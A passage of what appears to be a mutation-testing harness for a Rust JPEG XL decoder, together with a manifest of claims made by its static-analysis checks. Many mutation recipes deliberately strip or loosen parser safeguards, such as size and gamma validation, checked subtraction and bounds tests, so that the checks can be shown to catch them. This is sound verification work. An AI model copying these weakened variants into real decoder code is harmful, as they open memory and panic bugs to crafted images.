  "                if let Some(grid) = sigma_grid_map[sigma_grid_idx] {\n                    let width = grid.width();\n                    *sigma = grid.buf()[sigma_inner_y * width + sigma_inner_x];\n                }"),
 ("c12_narrow_predicate_or", "C12", "narrow_modular|table-differs", "crates/jxl-render/src/lib.rs",
  "        !self.force_wide_buffers && self.image_header.metadata.modular_16bit_buffers", "        !self.force_wide_buffers || self.image_header.metadata.modular_16bit_buffers"),
 ("c12_i16_add_saturates", "C12", "impls-differ", "crates/jxl-modular/src/sample.rs",
  "    fn add(self, rhs: i16) -> i16 {\n        self.wrapping_add(rhs)", "    fn add(self, rhs: i16) -> i16 {\n        self.saturating_add(rhs)"),
 ("c12_i16_opaque_alpha_shifted", "C12", "arms-differ", "crates/jxl-render/src/image.rs",
  "                    g.buf_mut().fill(opaque_int as i16);", "                    g.buf_mut().fill((opaque_int >> 1) as i16);"),
 ("c07_decode_counter_static", "C07", "static:", "crates/jxl-render/src/vardct/dct_common.rs",
  "pub fn sec_half(n: usize) -> &'static [f32] {\n    let idx = n.trailing_zeros() as usize - 2;\n",
  "pub fn sec_half(n: usize) -> &'static [f32] {\n    static CALLS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);\n    let _ = CALLS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);\n    let idx = n.trailing_zeros() as usize - 2;\n"),
 ("c07_natural_order_unsynchronised_read", "C07", "read-before-once", "crates/jxl-vardct/src/hf_pass.rs",
  "    // TODO: Replace this with `OnceLock` when it is available in stable.\n",
  "    if unsafe { !LARGE_NATURAL_ORDER[idx].is_empty() } {\n        return unsafe { &LARGE_NATURAL_ORDER[idx] };\n    }\n"),
 ("c03_global_predicate_strict", "C03", "split-predicates-differ", "crates/jxl-modular/src/image.rs",
  "            .take_while(|&(i, (ref info, _))| {\n                i < subimage.nb_meta_channels\n                    || (info.width <= group_dim && info.height <= group_dim)",
  "            .take_while(|&(i, (ref info, _))| {\n                i < subimage.nb_meta_channels\n                    || (info.width < group_dim && info.height <= group_dim)"),
 ("c19_transfer_function_codes_crossed", "C19", "try_from:TransferFunction", "crates/jxl-image/src/color.rs",
  "            17 => Self::Dci,\n            18 => Self::Hlg,", "            17 => Self::Hlg,\n            18 => Self::Dci,"),
 ("c11_lf_group_forgives_when_loaded", "C11", "polarity:", "crates/jxl-frame/src/lib.rs",
  "                Err(e) if !loaded && e.unexpected_eof() => None,", "                Err(e) if loaded && e.unexpected_eof() => None,"),
 ("c09_eof_exit_without_carry", "C09", "return-without-carry", "crates/jxl-oxide/src/lib.rs",
  "                Err(e) if e.unexpected_eof() => {\n                    self.buffer = buf.to_vec();\n                    return Ok(());\n                }\n                Err(e) => {\n                    return Err(e.into());\n                }\n            };\n            let frame_index = frame.index();",
  "                Err(e) if e.unexpected_eof() => {\n                    return Ok(());\n                }\n                Err(e) => {\n                    return Err(e.into());\n                }\n            };\n            let frame_index = frame.index();"),
 ("c09_feed_returns_len", "C09", "returns-consumed", "crates/jxl-oxide/src/lib.rs",
  "                    self.inner.aux_boxes.handle_event(aux_box_event)?;\n                }\n            }\n        }\n        Ok(self.reader.previous_consumed_bytes())",
  "                    self.inner.aux_boxes.handle_event(aux_box_event)?;\n                }\n            }\n        }\n        Ok(buf.len())"),
 ("c04_mtf_copy_range", "C04", "R-CLUSTER-MAP", "crates/jxl-coding/src/lib.rs",
  "                mtfmap.copy_within(0..idx, 1);", "                mtfmap.copy_within(0..=idx, 1);"),
 ("c04_cluster_count_from_len", "C04", "R-CLUSTER-MAP", "crates/jxl-coding/src/lib.rs",
  "    let num_clusters = *cluster.iter().max().unwrap() as u32 + 1;", "    let num_clusters = *cluster.iter().max().unwrap() as u32 + 1;\n    let num_clusters = num_clusters.max(2).min(num_dist);"),
 ("c01_hybrid_sum_check_relaxed", "C01", "R-HYBRID-CONFIG", "crates/jxl-coding/src/lib.rs",
  "        if lsb_in_token + msb_in_token > split_exponent {", "        if lsb_in_token + msb_in_token > split_exponent + 1 {"),
 ("c01_hybrid_msb_check_relaxed", "C01", "R-HYBRID-CONFIG", "crates/jxl-coding/src/lib.rs",
  "            if msb_in_token > split_exponent {", "            if msb_in_token > split_exponent + 1 {"),
 ("c17_scaninfo_reset_bound_relaxed", "C17", "R-JBR-SCANINFO", "crates/jxl-jbr/src/lib.rs",
  "                if block_idx > (3 << 26) {\n                    tracing::error!(value = block_idx, \"reset_points too large\");", "                if block_idx > (3 << 27) {\n                    tracing::error!(value = block_idx, \"reset_points too large\");"),
 ("c17_scaninfo_run_bound_relaxed", "C17", "R-JBR-SCANINFO", "crates/jxl-jbr/src/lib.rs",
  "                if block_idx > (3 << 26) {\n                    tracing::error!(block_idx, \"extra_zero_runs.block_idx too large\");", "                if block_idx >= (3 << 26) + 2 {\n                    tracing::error!(block_idx, \"extra_zero_runs.block_idx too large\");"),
 ("c04_hybrid_msb_width", "C04", "R-HYBRID-CONFIG", "crates/jxl-coding/src/lib.rs",
  "            let msb_bits = add_log2_ceil(split_exponent) as usize;", "            let msb_bits = add_log2_ceil(log_alphabet_size) as usize;"),
 ("c10_nomoreaux_jxlp_last", "C10", "R-NOMOREAUX", "crates/jxl-bitstream/src/container/parse.rs",
  "                    let bytes_left = header.box_size().map(|x| x as usize - 4);\n                    *state = DetectState::InCodestream {\n                        kind: BitstreamKind::Container,\n                        bytes_left,\n                        pending_no_more_aux_box: bytes_left.is_none(),",
  "                    let bytes_left = header.box_size().map(|x| x as usize - 4);\n                    *state = DetectState::InCodestream {\n                        kind: BitstreamKind::Container,\n                        bytes_left,\n                        pending_no_more_aux_box: is_last,"),
 ("c17_scaninfo_shared_index", "C17", "R-JBR-SCANINFO", "crates/jxl-jbr/src/lib.rs",
  "        let num_extra_zero_runs = bitstream.read_u32(0, 1 + U(2), 4 + U(4), 20 + U(16))?;\n        let mut last_block_idx: Option<u32> = None;\n",
  "        let num_extra_zero_runs = bitstream.read_u32(0, 1 + U(2), 4 + U(4), 20 + U(16))?;\n"),
 ("c18_ctx_kind1_240", "C18", "R-ICC-CTX", "crates/jxl-color/src/icc/decode.rs",
  "        241..=254 => 5,", "        240..=254 => 5,"),
 ("c18_ctx_kind2_16", "C18", "R-ICC-CTX", "crates/jxl-color/src/icc/decode.rs",
  "        0..=15 => 2,\n        241..=255 => 3,", "        0..=16 => 2,\n        241..=255 => 3,"),
 ("c18_ctx_header_boundary", "C18", "R-ICC-CTX", "crates/jxl-color/src/icc/decode.rs",
  "    if idx <= 128 {\n        return 0;", "    if idx < 128 {\n        return 0;"),
 ("c12_tendency_i16_bias", "C12", "R-TENDENCY", "crates/jxl-modular/src/transform/squeeze.rs",
  "fn tendency_i16(a: i16, b: i16, c: i16) -> i16 {\n    let a = Wrapping(a);\n    let b = Wrapping(b);\n    let c = Wrapping(c);\n\n    let n1 = Wrapping(1);\n    let n2 = Wrapping(2);\n    let n3 = Wrapping(3);\n    let n4 = Wrapping(4);\n    let n6 = Wrapping(6);",
  "fn tendency_i16(a: i16, b: i16, c: i16) -> i16 {\n    let a = Wrapping(a);\n    let b = Wrapping(b);\n    let c = Wrapping(c);\n\n    let n1 = Wrapping(1);\n    let n2 = Wrapping(2);\n    let n3 = Wrapping(3);\n    let n4 = Wrapping(4);\n    let n6 = Wrapping(5);"),
 ("c12_tendency_i32_clamp", "C12", "R-TENDENCY", "crates/jxl-modular/src/transform/squeeze.rs",
  "        if x + (x & n1) > n2 * (b - c) {\n            x = n2 * (b - c);\n        }\n        x.0\n    } else if a <= b && b <= c {\n        let mut x = (n4 * a - n3 * c - b - n6) / n12;\n        if x + (x & n1) < n2 * (a - b) {\n            x = n2 * (a - b) - n1;",
  "        if x + (x & n1) > n2 * (b - c) {\n            x = n2 * (b - c);\n        }\n        x.0\n    } else if a <= b && b <= c {\n        let mut x = (n4 * a - n3 * c - b - n6) / n12;\n        if x + (x & n1) < n2 * (a - b) {\n            x = n2 * (a - b) + n1;"),
 ("c18_interp_order1_sign", "C18", "script:predict width 1 order 1", "crates/jxl-color/src/icc/decode.rs",
  "                        1 => Wrapping(2) * prev[0] - prev[1],", "                        1 => Wrapping(2) * prev[0] + prev[1],"),
 ("c18_interp_xyz_triple_offset", "C18", "script:tag list", "crates/jxl-color/src/icc/decode.rs",
  "                out.extend_from_slice(&(tagstart + tagsize * 2).to_be_bytes());", "                out.extend_from_slice(&(tagstart + tagsize * 3).to_be_bytes());"),
 ("c18_interp_prev_offset", "C18", "script:predict width", "crates/jxl-color/src/icc/decode.rs",
  "                        let offset = out.len() - stride * (j + 1);", "                        let offset = out.len() - stride * (j + 1) - (j & 1);"),
 ("c18_interp_type_command_base", "C18", "script:XYZ command and the eight type commands", "crates/jxl-color/src/icc/decode.rs",
  "                out.extend_from_slice(COMMON_DATA[command as usize - 16]);", "                out.extend_from_slice(COMMON_DATA[(command as usize - 16) ^ 1]);"),
 ("c18_shuffle4_tail_order", "C18", "shuffle4|permutation", "crates/jxl-color/src/icc/decode.rs",
  "        out.push(bytes[(step + 1) * idx - 1]);", "        out.push(bytes[(step + 1) * (wide_count + 1 - idx) - 1]);"),
 ("c18_final_size_check_removed", "C18", "len(out) != output_size", "crates/jxl-color/src/icc/decode.rs",
  "    if out.len() != output_size as usize {\n        return Err(Error::InvalidIccStream(\"decoded ICC profile size mismatch\"));\n    }\n", ""),
 ("c18_stride_check_relaxed", "C18", "stride < width", "crates/jxl-color/src/icc/decode.rs",
  "                    if stride < width {", "                    if stride == 0 {"),
 ("c13_forget_handle", "C13", "leak", "crates/jxl-frame/src/lib.rs",
  "            self.handle = Some(handle);", "            std::mem::forget(handle);"),
 ("c17_expect_is_last_dht", "C17", "search-unwrap", "crates/jxl-jbr/src/reconstruct.rs",
  "                let last_idx = self.huffman_code_ptr.iter().position(|hc| hc.is_last);\n                let num_tables = last_idx.ok_or(Error::InvalidData)? + 1;",
  "                let last_idx = self.huffman_code_ptr.iter().position(|hc| hc.is_last);\n                let num_tables = last_idx.unwrap() + 1;"),
 ("c01_find_map_unwrap_dqt", "C01", "search-unwrap", "crates/jxl-jbr/src/reconstruct.rs",
  "                let last_idx = self.quant_ptr.iter().position(|qt| qt.is_last);\n                let num_tables = last_idx.ok_or(Error::InvalidData)? + 1;",
  "                let num_tables = self.quant_ptr.iter().enumerate().find(|(_, qt)| qt.is_last).map(|(i, _)| i).expect(\"terminated\") + 1;"),
 ("c01_pass_table_plain_insert", "C01", "insert-discards-previous", "crates/jxl-frame/src/lib.rs",
  "            pass_shifts\n                .entry(pass)\n                .and_modify(|(min, max)| {\n                    *min = (*min).min(minshift);\n                    *max = (*max).max(maxshift);\n                })\n                .or_insert((minshift, maxshift));",
  "            pass_shifts.insert(pass, (minshift, maxshift));"),
 ("c19_cicp_read_at_signature", "C19", "offset-differs", "crates/jxl-color/src/icc/parse.rs",
  "                cicp = data.get(8..12).and_then(|x| x.try_into().ok());", "                cicp = data.get(..4).and_then(|x| x.try_into().ok());"),
 ("c19_cicp_wrong_element", "C19", "index-differs", "crates/jxl-color/src/icc/parse.rs",
  "    let override_trc = if let Some([_, 16, _, _]) = cicp {\n        Some(KnownIccTrc::Pq)\n    } else if let Some([_, 18, _, _]) = cicp {",
  "    let override_trc = if let Some([16, _, _, _]) = cicp {\n        Some(KnownIccTrc::Pq)\n    } else if let Some([18, _, _, _]) = cicp {"),
 ("c06_epf_pad_three_iters_short", "C06", "pad-below-reach:iters3", "crates/jxl-render/src/util.rs",
  "            color_padded_region.pad(6)", "            color_padded_region.pad(5)"),
 ("c06_epf_step0_runs_for_two_iters", "C06", "pad-below-reach:iters2", "crates/jxl-render/src/filter/epf.rs",
  "    // Step 0\n    if iters == 3 {", "    // Step 0\n    if iters >= 2 {"),
 ("c01_gamma_not_validated", "C01", "div:TransferFunction.g", "crates/jxl-image/src/color.rs",
  "            if gamma > 10_000_000 || (gamma as u64) * 8192 < 10_000_000 {\n                return Err(Error::ValidationFailed(\"Invalid gamma value\"));\n            }\n", ""),
 ("c03_table_decoder_for_prev_channel_props", "C03", "table-on-prev-channel", "crates/jxl-modular/src/ma.rs",
  "        if decision_prop >= 16 {\n            return None;\n        }\n", ""),
 ("c01_unknown_colour_enum_accepted", "C01", "panic-arm", "crates/jxl-image/src/color.rs",
  "                if colour_space == ColourSpace::Unknown || matches!(tf, TransferFunction::Unknown) {", "                if false {"),
 ("c17_app_marker_type_unchecked", "C17", "ty > 3", "crates/jxl-jbr/src/lib.rs",
  "        if ty > 3 {", "        if ty > 7 {"),
 ("c05_new_alpha_converted_with_channel_depth", "C05", "blend|alpha-plane-depth", "crates/jxl-render/src/blend.rs",
  "            let bit_depth = image_header.metadata.ec_info[idx].bit_depth;\n            new_grid.buffer_mut()[idx + color_channels].convert_to_float_modular(bit_depth)?;",
  "            new_grid.buffer_mut()[idx + color_channels].convert_to_float_modular(bit_depth)?;"),
 ("c05_patch_alpha_converted_with_channel_depth", "C05", "patch|alpha-plane-depth", "crates/jxl-render/src/blend.rs",
  "                        r[0].convert_to_float_modular(alpha_bit_depth)?;", "                        r[0].convert_to_float_modular(bit_depth)?;"),
 ("c19_hlg_to_linear_not_odd", "C19", "pair:hlg", "crates/jxl-color/src/tf.rs",
  "        let a = s.abs();\n        *s = if a <= 0.5 {\n            a * a / 3.0\n        } else {\n            (((a - HLG_C) / HLG_A).exp() + HLG_B) / 12.0\n        }\n        .copysign(*s);",
  "        let a = *s;\n        *s = if a <= 0.5 {\n            a * a / 3.0\n        } else {\n            (((a - HLG_C) / HLG_A).exp() + HLG_B) / 12.0\n        };"),
 ("c13_reserve_before_charge", "C13", "alloc-before-charge:jxl_frame::GroupData::ensure_allocated", "crates/jxl-frame/src/lib.rs",
  "            let handle = tracker.alloc::<u8>(size)?;\n            self.bytes.try_reserve(size)?;\n            self.handle = Some(handle);",
  "            self.bytes.try_reserve(size)?;\n            let handle = tracker.alloc::<u8>(size)?;\n            self.handle = Some(handle);"),
 ("c13_try_reserve_result_dropped", "C13", "result-discarded:try_reserve", "crates/jxl-frame/src/lib.rs",
  "            self.bytes.try_reserve(additional)?;", "            let _ = self.bytes.try_reserve(additional);"),
 ("c10_header_size_unchecked", "C10", "parse|size-rules", "crates/jxl-bitstream/src/container/box_header.rs",
  "                let xlbox = xlbox.checked_sub(16).ok_or(Error::InvalidBox)?;", "                let xlbox = xlbox.wrapping_sub(16);"),
 ("c03_palette_delta_le", "C03", "predict-iff-index-below-nb_deltas", "crates/jxl-modular/src/transform/palette.rs",
  "                if index < nb_deltas {\n                    need_delta.push", "                if index <= nb_deltas {\n                    need_delta.push"),
 ("c03_palette_delta_vs_nb_colors", "C03", "predict-iff-index-below-nb_deltas", "crates/jxl-modular/src/transform/palette.rs",
  "                if index < nb_deltas {\n                    need_delta.push", "                if index < nb_colors {\n                    need_delta.push"),
 ("c03_predictor_select_tie", "C03", "predict|formulas", "crates/jxl-modular/src/predictor.rs",
  "                if n.abs_diff(nw) < w.abs_diff(nw) {", "                if n.abs_diff(nw) <= w.abs_diff(nw) {"),
 ("c03_predictor_avgall_round", "C03", "predict|formulas", "crates/jxl-modular/src/predictor.rs",
  "((6 * n - 2 * nn + 7 * w + ww + nee + 3 * ne + 8) / 16) as i32", "((6 * n - 2 * nn + 7 * w + ww + nee + 3 * ne + 8) >> 4) as i32"),
 ("c03_predictor_avg_ne_uses_nw", "C03", "predict|formulas", "crates/jxl-modular/src/predictor.rs",
  "                ((predictor.n as i64 + predictor.ne::<EDGE>() as i64) / 2) as i32", "                ((predictor.n as i64 + predictor.nw as i64) / 2) as i32"),
 ("c15_quantize_u8_no_round", "C15", "float-to-u8|value", "crates/jxl-oxide/src/fb.rs",
  "            *self = (val * 255.0 + 0.5).clamp(0.0, 255.0) as u8;", "            *self = (val * 255.0).clamp(0.0, 255.0) as u8;"),
 ("c15_quantize_u16_scale", "C15", "float-to-u16|value", "crates/jxl-oxide/src/fb.rs",
  "            *self = (val * 65535.0 + 0.5).clamp(0.0, 65535.0) as u16;", "            *self = (val * 65536.0 + 0.5).clamp(0.0, 65535.0) as u16;"),
 ("c15_parse_integer_sample_div", "C15", "sample-to-float|value", "crates/jxl-image/src/lib.rs",
  "                let div = (1i32 << bits_per_sample) - 1;", "                let div = 1i32 << bits_per_sample;"),
 ("c06_region_downsample_no_widen", "C06", "region|set-semantics|downsample", "crates/jxl-render/src/region.rs",
  "        let adj_width = self.width + self.left.abs_diff(new_left << factor);\n        let adj_height", "        let adj_width = self.width;\n        let adj_height"),
 ("c06_region_container_aligned_floor", "C06", "region|set-semantics|container_aligned", "crates/jxl-render/src/region.rs",
  "            width: (self.width + x_diff + add) & mask,", "            width: (self.width + add) & mask,"),
 ("c14_read_u64_offset", "C14", "read_u64|layout", "crates/jxl-bitstream/src/bitstream.rs",
  "            2 => self.read_bits(8)? as u64 + 17,", "            2 => self.read_bits(8)? as u64 + 16,"),
 ("c14_f16_subnormal_scale", "C14", "read_f16_as_f32|value", "crates/jxl-bitstream/src/bitstream.rs",
  "            let val = (1.0 / 16384.0) * (mantissa as f32 / 1024.0);", "            let val = (1.0 / 32768.0) * (mantissa as f32 / 1024.0);"),
 ("c12_unpack_i16_sign", "C12", "unpack_signed_u32|value", "crates/jxl-modular/src/sample.rs",
  "        let flip = 0u16.wrapping_sub(bit);\n        (base ^ flip) as i16", "        let flip = 0u16.wrapping_sub(bit);\n        (base ^ flip).wrapping_add(bit) as i16"),
 ("c19_hlg_inverse_threshold", "C19", "tf::hlg_to_linear|curve", "crates/jxl-color/src/tf.rs",
  "        *s = if a <= 0.5 {\n            a * a / 3.0", "        *s = if a <= 1.0 / 12.0 {\n            a * a / 3.0"),
 ("c19_pq_intensity_scale_inverted", "C19", "tf::pq::pq_to_linear_generic|curve", "crates/jxl-color/src/tf/pq.rs",
  "    let y_mult = 10000.0 / intensity_target;\n    let a = s.abs();\n    let x = a.mul_add(a, a);", "    let y_mult = intensity_target / 10000.0;\n    let a = s.abs();\n    let x = a.mul_add(a, a) * 1.0001;"),
 ("c19_srgb_linear_segment_slope", "C19", "tf::srgb::srgb_to_linear|curve", "crates/jxl-color/src/tf/srgb.rs",
  "            a / 12.92\n        } else {\n            crate::fastmath::rational_poly::eval_generic(a, P, Q)", "            a / 12.29\n        } else {\n            crate::fastmath::rational_poly::eval_generic(a, P, Q)"),
 ("c01_cluster_map_decoder_two_dists", "C01", "bound-lost", "crates/jxl-coding/src/lib.rs",
  "            Decoder::parse(bitstream, 1)?\n        };\n        decoder.begin(bitstream)?;", "            Decoder::parse(bitstream, num_dist.min(2))?\n        };\n        decoder.begin(bitstream)?;"),
]


def sh(*a, **k):
    return subprocess.run(a, check=True, text=True, capture_output=True, **k).stdout


def main():
    subprocess.run(["git", "-C", "/repo", "worktree", "remove", "--force", WT], capture_output=True)
    sh("git", "-C", "/repo", "worktree", "add", "--detach", WT, "HEAD")
    idx = []
    try:
        for name, prop, key, path, old, new in M:
            if old is None:
                continue
            p = os.path.join(WT, path)
            s = open(p).read()
            if s.count(old) < 1:
                print("RECIPE DOES NOT MATCH:", name)
                continue
            s = s.replace(old, new, 1)
            open(p, "w").write(s)
            diff = sh("git", "-C", WT, "diff")
            open(os.path.join(V, "mutants", name + ".patch"), "w").write(diff)
            sh("git", "-C", WT, "checkout", "--", ".")
            idx.append({"name": name, "property": prop, "expect": key})
        # the reverse of each repair commit (mutants/reverts/, written when the repair was made): the rule that reports the defect
        REVERTS = {"D23": ("C01", "D23"), "D24": ("C01", "D24"), "D25": ("C05", "D25"), "D26": ("C05", "D26"), "D27": ("C01", "D27"),
                   "D28": ("C05", "D28"), "D29": ("C01", "D29"), "D30": ("C05", "D30"), "D31": ("C01", "D31"), "D32": ("C01", "D32"),
                   "D34": ("C01", "D34"), "D35": ("C01", "D35"), "D36": ("C04", "exit-without-finalize"), "D37": ("C03", "plain-sub"),
                   "D38": ("C01", "try_compile_to_table|arith"), "D39": ("C03", "D39"), "D40": ("C01", "patch|arith:patch_ref"), "D42": ("C06", "D42"), "D44": ("C12", "i16-saturating"),
                   "D43": ("C05", "alpha-region-ignored"), "D45": ("C06", "D45"), "D46": ("C06", "D46"), "D47": ("C06", "base-region-unchecked"), "D48": ("C05", "patch|alpha-region-ignored"),
                   "D49": ("C01", "render_loading_frame|index:FrameHeader.lf_level"), "D50": ("C17", "D50"), "D51": ("C01", "suggested_hdr_tf<-jxl_render::RenderContext::embedded_icc"), "D52": ("C01", "parse_icc_raw|arith:tag_count"), "D53": ("C03", "fast-path-ignores-nb_deltas"),
                   "D54": ("C01", "D54"), "D55": ("C01", "D55"), "D56": ("C01", "D56"),
                   "D57": ("C11", "D57"), "D58": ("C10", "D58"), "D59": ("C01", "render_loading_frame_cropped<-jxl_render::RenderContext::frame"), "D60": ("C11", "D60"),
                   "D62": ("C18", "tag list ends with the command stream"), "D63": ("C17", "D63")}
        for d, (prop, key) in sorted(REVERTS.items()):
            if os.path.exists(os.path.join(V, "mutants", "reverts", "revert_%s.patch" % d)):
                idx.append({"name": "reverts/revert_%s" % d, "property": prop, "expect": key})
        json.dump(idx, open(os.path.join(V, "mutants", "index.json"), "w"), indent=1)
        print(len(idx), "mutants written")
    finally:
        subprocess.run(["git", "-C", "/repo", "worktree", "remove", "--force", WT], capture_output=True)


if __name__ == "__main__":
    main()


BENIGN = [
 ("rename_local_in_preserve_current_frame", "crates/jxl-render/src/lib.rs",
  "            let ref_idx = header.save_as_reference as usize;\n            self.reference[ref_idx] = idx;",
  "            let slot = header.save_as_reference as usize;\n            self.reference[slot] = idx;"),
 ("merge_err_arms_jxlc", "crates/jxl-bitstream/src/container/parse.rs",
  "                                JxlpIndexState::SingleJxlc => {\n                                    tracing::debug!(\"Duplicate jxlc box found\");\n                                    return Err(Error::InvalidBox);\n                                }\n                                JxlpIndexState::Jxlp(_) | JxlpIndexState::JxlpFinished => {\n                                    tracing::debug!(\"Found jxlc box instead of jxlp box\");\n                                    return Err(Error::InvalidBox);\n                                }",
  "                                JxlpIndexState::SingleJxlc\n                                | JxlpIndexState::Jxlp(_)\n                                | JxlpIndexState::JxlpFinished => {\n                                    tracing::debug!(\"Unexpected jxlc box\");\n                                    return Err(Error::InvalidBox);\n                                }"),
 ("flip_comparison_toc_limit", "crates/jxl-frame/src/data/toc.rs", "        if entry_count > 65536 {", "        if 65536 < entry_count {"),
 ("limit_as_ge", "crates/jxl-modular/src/lib.rs", "    if header.nb_transforms > 512 {", "    if header.nb_transforms >= 513 {"),
 ("can_reference_early_return", "crates/jxl-frame/src/header.rs",
  "        !self.is_last\n            && (self.duration == 0 || self.save_as_reference != 0)\n            && self.frame_type != FrameType::LfFrame",
  "        if self.is_last || self.frame_type == FrameType::LfFrame {\n            return false;\n        }\n        self.save_as_reference != 0 || self.duration == 0"),
 ("orientation_reassociate", "crates/jxl-oxide/src/fb.rs",
  "            2 => (width - x - 1, y),\n            3 => (width - x - 1, height - y - 1),\n            4 => (x, height - y - 1),\n            5 => (y, x),\n            6 => (y, width - x - 1),",
  "            2 => (width - 1 - x, y),\n            3 => (width - 1 - x, height - 1 - y),\n            4 => (x, height - 1 - y),\n            5 => (y, x),\n            6 => (y, width - 1 - x),"),
 ("try_init_match_arm_order", "crates/jxl-oxide/src/lib.rs",
  "        let image_header = match ImageHeader::parse(&mut bitstream, ()) {\n            Ok(x) => x,\n            Err(e) if e.unexpected_eof() => {\n                return Ok(InitializeResult::NeedMoreData(self));\n            }\n            Err(e) => {\n                return Err(e.into());\n            }\n        };",
  "        let image_header = match ImageHeader::parse(&mut bitstream, ()) {\n            Err(e) if e.unexpected_eof() => {\n                return Ok(InitializeResult::NeedMoreData(self));\n            }\n            Err(e) => {\n                return Err(e.into());\n            }\n            Ok(x) => x,\n        };"),
 ("done_render_local_rename", "crates/jxl-render/src/state.rs",
  "        let mut guard = self.render.lock().unwrap();\n        *guard = render;\n        self.condvar.notify_all();\n        guard",
  "        let mut state = self.render.lock().unwrap();\n        *state = render;\n        self.condvar.notify_all();\n        state"),
 ("errslot_explicit_match", "crates/jxl-render/src/features/noise.rs",
  "        if r.is_err() {\n            *result.lock().unwrap() = r;\n        }",
  "        if let Err(e) = r {\n            *result.lock().unwrap() = Err(e);\n        }"),
]


def benign():
    subprocess.run(["git", "-C", "/repo", "worktree", "remove", "--force", WT], capture_output=True)
    sh("git", "-C", "/repo", "worktree", "add", "--detach", WT, "HEAD")
    n = 0
    try:
        for name, path, old, new in BENIGN:
            p = os.path.join(WT, path)
            s = open(p).read()
            if s.count(old) < 1:
                print("BENIGN RECIPE DOES NOT MATCH:", name)
                continue
            open(p, "w").write(s.replace(old, new, 1))
            diff = sh("git", "-C", WT, "diff")
            open(os.path.join(V, "mutants", "benign", name + ".patch"), "w").write(diff)
            sh("git", "-C", WT, "checkout", "--", ".")
            n += 1
        print(n, "benign patches written")
    finally:
        subprocess.run(["git", "-C", "/repo", "worktree", "remove", "--force", WT], capture_output=True)


if __name__ == "__main__" and "benign" in sys.argv:
    benign()

#!/usr/bin/env python3
"""Regenerate /verif/MANIFEST.json from the table below (single source of truth for what is claimed)."""
import json
import os

V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

NA = {
}

CHECKS = {
    "C08": dict(
        technique="typestate / must-pass-through analysis on rustc MIR (custom rustc_private driver + CFG path search); dominance of every success publication by the Ok edge of the fallible calls before it; lock re-acquisition dataflow (R-BLOCK)",
        text="Decides the wedge clause for all inputs and all failure points: the in-progress marker of the frame-render state "
             "machine is resolved on every CFG exit path (each `?` is an exit edge), the only blocking wait waits only for that "
             "marker inside a re-check loop, and done_render rejects the marker and notifies. Does not decide sample equality "
             "of later successful calls.",
        note="trusts rustc's MIR construction and name resolution, the driver's serialisation, std Mutex/Condvar; unwind edges "
             "(panics inside the render closure) excluded; x86_64 cfg only",
        ref="DESIGN.md section 3 C08"),
    "C01": dict(
        technique="reviewed-table census of Option unwraps in the API crate keyed by the producing callee; interval abstract interpretation of header fields (closures, helper summaries, conditional refinements) and value-class taint of entropy-decoded integers to panicking operations on MIR; validation-check reconstruction against a reviewed limit table; call-graph cycle (recursion) census with bound checks; backward data-flow of unwrapped iterator searches; totality of matches over decoded enumerations and ranged integers (explicit-panic arms vs what the parsers reject); must-raw struct-field taint; registry of repair guards (compare / reject / guarded-call facts); signed-index guard rule; blocking-primitive census; lock re-acquisition dataflow; call-graph reachability from thread-pool closures to the render-handle wait (R-POOL-WAIT)",
        text="Decides four mechanisms the property names, for every input: raw hybrid-uint values never reach checked 32-bit arithmetic, "
             "shift amounts, divisors, negation or abs() without a dominating ordering comparison (R-RAWINT: each report is a "
             "reachable panic); 54 named input limits exist as compare->error checks with the reviewed bound (R-LIMIT; the two hybrid-integer limits are decided by evaluation, R-HYBRID-CONFIG); running "
             "out of bits is an error value (R-EOF); nothing blocks except the render-handle wait and no lock is re-acquired "
             "while held (R-BLOCK). Does not decide general panic-freedom or loop termination.",
        note="intraprocedural; guards matched by dominance of an ordering comparison on the same value class (under-approximate once any comparison is seen)",
        ref="DESIGN.md section 3 C01"),
    "C09": dict(
        technique="must-pass-through rules on MIR for the carry-over buffer and the consumed-byte contract, plus the shared container/EOF classification rules; must-pass-through of the tail move between a feed_bytes call and the next read in the library's own read loops; must-pass-through of the buffer-offset commit after every drain of the carry-over buffer; reachability walk (block x {parsed, appended, initialised, error}) of the jbrd header retry; provenance of the preview completeness test in try_init (position read after the preview frame header)",
        text="Claimed narrowly: the plumbing that makes a chunk boundary invisible (each a necessary condition): the public feed functions "
             "return the parser's consumed-byte count; the frame loader re-stores the unconsumed remainder on every successful exit after "
             "it consumed bytes; the box-header parser is prefix-closed; aux boxes are finalised at end of input; end-of-data is classified "
             "as need-more-data on every wrapping route. Does not decide equality of the two executions (relational, value-level).",
        note="shares R-CONSUMED/R-BOXHDR/R-AUXBOX with C10 and R-EOF-* with C11; intraprocedural",
        ref="DESIGN.md section 8.6"),
    "C10": dict(
        technique="typestate transition-table extraction from MIR and comparison with the container-format reference; guard reconstruction; constant-propagating walk of the header parser's decision tree; must-pass-through (consumed counter; tail move after feed_bytes in the read loops); registry of repair guards (reserved-prefix byte string, brob size facts); evaluation of the box header parser from MIR on crafted headers against the ISO BMFF size rules; construction-site rule on DetectState::InCodestream (NoMoreAuxBox armed only with bytes_left None)",
        text="Decides the rejection clause and the size arithmetic for all layouts and chunkings: the jxlc/jxlp transition table equals "
             "the reference (duplicate/out-of-order/late codestream boxes -> error), undersized jxlp/brob boxes and compressed reserved "
             "types are rejected before the unchecked subtractions, the header parser is prefix-closed for the 64-bit size marker, and the "
             "consumed-byte counter is updated on every exit. Does not decide byte-exact payload delivery.",
        note="trusts the reference table transcribed from ISO/IEC 18181-2; Brotli out of scope",
        ref="DESIGN.md section 3 C10"),
    "C11": dict(
        technique="error-type graph from ADT definitions vs recognised wrapping routes computed from MIR downcast chains; boundary-site census with edge-outcome path checks; dominance ordering of the deferred read-error check before the final-state check on the RLE path",
        text="Decides the classification half for every prefix: every route by which a bitstream end-of-data error can be wrapped "
             "(31 routes over 7 error enums) is recognised by the corresponding unexpected_eof method; every API boundary asks the "
             "question and branches on it; the end-of-data edge never sets the sticky has_error flag and, in try_init, leads to "
             "NeedMoreData before the buffer is drained. Does not decide correctness of partial images or equality of final results.",
        note="intraprocedural path checks; the set of boundary functions is a reviewed table",
        ref="DESIGN.md section 3 C11"),
    "C02": dict(
        technique="target-feature must-dataflow on MIR (runtime detection dominance, call-graph summaries) + unsafe-site census with per-class guard obligations (incl. alignment test against the target type of every view re-typing cast) + compile_fail witnesses; guard / subtraction agreement for run-time operands in unsafe and target-feature kernels (dominating comparison of the same two values, or reviewed table)",
        text="Decides for every function and every CPU: a #[target_feature] kernel is only entered where the features are enabled "
